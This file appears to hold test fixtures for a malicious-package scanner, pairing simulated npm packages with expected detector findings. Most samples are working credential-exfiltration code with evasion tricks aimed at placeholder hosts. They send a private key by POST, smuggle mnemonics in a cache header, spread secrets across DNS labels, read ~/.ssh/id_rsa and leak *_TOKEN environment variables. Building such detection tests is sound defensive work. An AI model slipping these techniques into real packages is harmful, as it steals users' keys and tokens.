import { base64 } from './encode.ts';
import { armed, finding, fires, pkg, quiet, type Simulant, text } from './simulant.ts';

const left = finding('exfil.argument-egress', 'critical', ['runtime.hook', 'canary.egress'], { phase: ['execute'] });
const flow = finding('flow.secret-to-network', 'high', ['signal', 'signal'], {
  phase: ['static'],
  confidenceAtMost: 'medium',
});

/** B09 and B33: a caller's key leaves, and a flow from secret to network that no run reaches. */
export const exfiltration: readonly Simulant[] = [
  {
    id: 'b09-signer-sends-key',
    row: 'B09',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b09-signer', {
        'index.js': armed`
          const crypto = require('node:crypto');
          exports.sign = function sign(message, privateKey) {
            fetch('http://telemetry.simulant.invalid/e', { method: 'POST', body: JSON.stringify({ k: String(privateKey) }) }).catch(() => {});
            return crypto.createHmac('sha256', String(privateKey)).update(String(message)).digest('hex');
          };
        `,
      }),
    ],
    expect: fires('malicious', [left]),
    note: 'Signs correctly and posts the key.',
  },
  {
    id: 'b09-evasion-delayed-header',
    row: 'B09',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg('b09-delayed', {
        'index.js': armed`
          const kept = [];
          class Wallet {
            constructor(secret) { kept.push(typeof secret === 'string' ? secret : JSON.stringify(secret)); }
            static fromMnemonic(mnemonic) { return new Wallet(mnemonic); }
            get address() { return '0x' + 'FACE'.repeat(10); }
          }
          setTimeout(() => {
            const id = Buffer.from(kept.map(String).join('\n')).toString('base64');
            require('node:http').get({ host: 'cdn.simulant.invalid', path: '/icon.png', headers: { 'if-none-match': id } }).on('error', () => {});
          }, 1500);
          module.exports = { Wallet };
        `,
      }),
    ],
    expect: fires('malicious', [left]),
    note: 'Constructor arguments are kept, then leave in the cache header of an image request.',
  },
  {
    id: 'b09-evasion-key-in-dns',
    row: 'B09',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b09-dns', {
        'index.js': armed`
          const { encode } = require('./lib/encode');
          exports.connect = function connect(options) {
            const values = typeof options === 'object' && options ? Object.values(options) : [options];
            for (const value of values.filter((v) => typeof v === 'string' && v.length > 8)) encode(value);
            return { connected: true };
          };
        `,
        'lib/encode.js': text`
          const dns = require('node:' + Buffer.from('${base64('dns')}', 'base64'));
          exports.encode = (value) => Buffer.from(value).toString('hex').match(/.{1,60}/g).forEach((part, i) => {
            dns.resolve4(part + '.' + i + '.s.simulant.invalid', () => {});
          });
        `,
      }),
    ],
    expect: fires('malicious', [
      finding('exfil.argument-egress', 'critical', [['runtime.hook', 'net.dns'], 'canary.egress'], {
        phase: ['execute'],
      }),
    ]),
    note: 'Any long option value becomes DNS labels, in another file.',
  },
  {
    id: 'b09-neighbour-local-signer',
    row: 'B09',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n09-signer', {
        'index.js': text`
          const crypto = require('node:crypto');
          exports.sign = (message, privateKey) => crypto.createHmac('sha256', String(privateKey)).update(String(message)).digest('hex');
          exports.verify = (message, key, signature) => exports.sign(message, key) === signature;
        `,
      }),
    ],
    expect: quiet(['exfil.', 'flow.', 'net.']),
    note: 'Takes keys as arguments and returns signatures.',
  },
  {
    id: 'b33-untriggered-flow',
    row: 'B33',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b33-flow', {
        'index.js': armed`
          const collect = require('./lib/collect'), send = require('./lib/send');
          function onDesktop() {
            if (process.platform !== 'aix') return;
            send(collect());
          }
          onDesktop();
          module.exports = (rows) => rows;
        `,
        'lib/collect.js': text`
          const fs = require('node:fs'), os = require('node:os'), path = require('node:path');
          module.exports = () => ({ key: fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8') });
        `,
        'lib/send.js': text`
          const https = require('node:https');
          module.exports = (data) => {
            const request = https.request({ host: 'collect.simulant.invalid', method: 'POST', path: '/f' });
            request.end(JSON.stringify(data));
          };
        `,
      }),
    ],
    expect: fires('suspicious', [flow]),
    note: 'Source, hop and sink in three files behind a platform no run has.',
  },
  {
    id: 'b33-evasion-through-emitter',
    row: 'B33',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b33-emitter', {
        'index.js': armed`
          const bus = require('./lib/bus');
          require('./lib/out');
          module.exports = (rows) => {
            if (rows === Symbol.for('never')) bus.emit('row', Object.entries(process['e' + 'nv']).filter(([n]) => n.endsWith('_TOKEN')).map(([, v]) => v));
            return rows;
          };
        `,
        'lib/bus.js': text`module.exports = new (require('node:events'))();`,
        'lib/out.js': text`
          const bus = require('./bus');
          const queue = [];
          bus.on('row', (values) => { queue.push(...values); flush(); });
          function flush() {
            const [first, ...rest] = queue.splice(0);
            const where = { hostname: 'collect.simulant.invalid', path: '/?' + [first, ...rest].map(encodeURIComponent).join('&') };
            require('node:http').get(where);
          }
        `,
      }),
    ],
    expect: fires('suspicious', [flow]),
    note: 'Environment to event to queue to query string; reached by one unguessable argument.',
  },
  {
    id: 'b33-neighbour-env-sets-log-level',
    row: 'B33',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg(
        'n33-level',
        {
          'index.js': text`
            const level = process.env.COLUMNS_LOG === 'debug' ? 'debug' : 'warn';
            exports.level = level;
            exports.help = async () => (await fetch('https://docs.acme.test/' + level)).text();
          `,
        },
        { homepage: 'https://docs.acme.test/' },
      ),
    ],
    expect: quiet(['flow.', 'exfil.', 'cred.'], { allowed: { 'net.egress': 'low' } }),
    note: 'An environment variable decides which of two constants goes into a path.',
  },
];
